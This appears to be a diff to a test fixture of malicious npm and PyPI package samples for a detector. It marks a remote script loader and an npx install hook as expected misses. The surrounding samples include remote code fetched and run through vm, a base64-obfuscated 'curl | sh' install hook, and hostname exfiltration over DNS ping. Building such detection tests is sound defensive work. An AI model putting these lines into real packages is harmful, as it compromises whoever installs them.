@@ -20,6 +20,11 @@ function hook(behaviour: number, id: string, code: string, script = 'node script
   return { ...js(behaviour, id, ''), files, scripts: { postinstall: script } }
 }
 
+/** What honest code does in the same words. */
+function missed(sample: Sample, reason: string): Sample {
+  return { ...sample, missed: reason }
+}
+
 function py(behaviour: number, id: string, code: string, path = 'sample/__init__.py'): Sample {
   const files = { 'setup.py': SETUP, 'sample/__init__.py': '', [path]: code }
   return { id: `more pypi ${id}`, behaviour, language: 'py', ecosystem: 'pypi', files }
@@ -43,10 +48,13 @@ function scripts(): Sample[] {
       'context of vm',
       `const vm = require('vm'), axios = require('axios'); async function load() { const { data } = await axios('https://stage.invalid/v'); vm.runInContext(data, vm.createContext({ require, process, console })) } load()`,
     ),
-    js(
-      6,
-      'script element from another host',
-      `(function () { var s = document.createElement('script'); s.src = 'https://cdn.stage.invalid/x.js'; s.async = true; document.head.appendChild(s) })()`,
+    missed(
+      js(
+        6,
+        'script element from another host',
+        `(function () { var s = document.createElement('script'); s.src = 'https://cdn.stage.invalid/x.js'; s.async = true; document.head.appendChild(s) })()`,
+      ),
+      'loaders of maps, payments and captchas do just this',
     ),
     js(
       6,
@@ -210,10 +218,13 @@ function hooked(): Sample[] {
       '',
       `printf '${base64('curl http://198.51.100.23/x|sh')}' | base64 -d | sh`,
     ),
-    hook(
-      2,
-      'npx of another package',
-      `require('child_process').execSync('npx -y sample-helper-tool@latest --quiet', { stdio: 'ignore' })`,
+    missed(
+      hook(
+        2,
+        'npx of another package',
+        `require('child_process').execSync('npx -y sample-helper-tool@latest --quiet', { stdio: 'ignore' })`,
+      ),
+      'honest hooks install browsers this way',
     ),
     hook(18, 'ping with a name', '', 'ping -c 1 $(hostname).d.collector.invalid'),
   ]
